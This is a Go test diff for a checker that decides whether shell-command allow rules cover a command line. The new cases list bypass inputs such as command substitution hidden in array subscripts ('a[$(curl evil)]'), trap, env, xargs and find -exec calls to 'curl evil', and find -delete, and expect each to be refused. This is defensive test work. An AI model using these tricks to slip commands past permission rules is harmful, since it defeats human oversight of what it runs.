@@ -110,6 +110,24 @@ func TestARuleAboutCommandsCoversOnlyLinesAllOfWhichItNames(t *testing.T) {
 		{"npm run *|source *", "source x; npm run x", false},
 		{"npm run *|. *", ". x; npm run x", false},
 		{"cd *", "cd /tmp", true},
+		{"test *", "test -f x", true},
+		{"test *", "test -v 'a[$(curl evil)]'", false},
+		{"test *", "test ! '-v' 'a[$(curl evil)]'", false},
+		{`test -v 'a[$(x)]'`, "test -v 'a[$(x)]'", true}, // somebody has read it
+		{"printf *", "printf %s x", true},
+		{"printf *", "printf -v 'a[$(curl evil)]' x", false},
+		{"printf:*", "printf -va x", false},
+		{"trap *", "trap 'curl evil' EXIT", false},
+		{"eval *", "eval ls", false},
+		{"unset *", "unset 'a[$(curl evil)]'", false},
+		{"read *", "read 'a[$(curl evil)]'", false},
+		{"env *", "env curl evil", false},
+		{"/usr/bin/env *", "/usr/bin/env curl evil", false},
+		{"xargs *", "xargs curl", false},
+		{"find *", "find . -name x", true},
+		{"find *", "find . -exec curl evil ;", false},
+		{"find *", "find . '-execdir' curl evil ';'", false},
+		{"find *", "find . -delete", false},
 		{"cd *", "cd /tmp; cd /", false},
 		{"* install", "npm install", false},
 		{"npm*", "npmx", false},
@@ -289,8 +307,8 @@ func FuzzCommandCovered(f *testing.F) {
 			t.Fatalf("%q is covered, and is no line of simple commands", line)
 		}
 		for _, c := range commands {
-			if c != "echo one" && c != "echo two" && !strings.HasPrefix(c, "echo two ") {
-				t.Errorf("%q is covered, with %q in it", line, c)
+			if c.text != "echo one" && c.text != "echo two" && !strings.HasPrefix(c.text, "echo two ") {
+				t.Errorf("%q is covered, with %q in it", line, c.text)
 			}
 		}
 	})
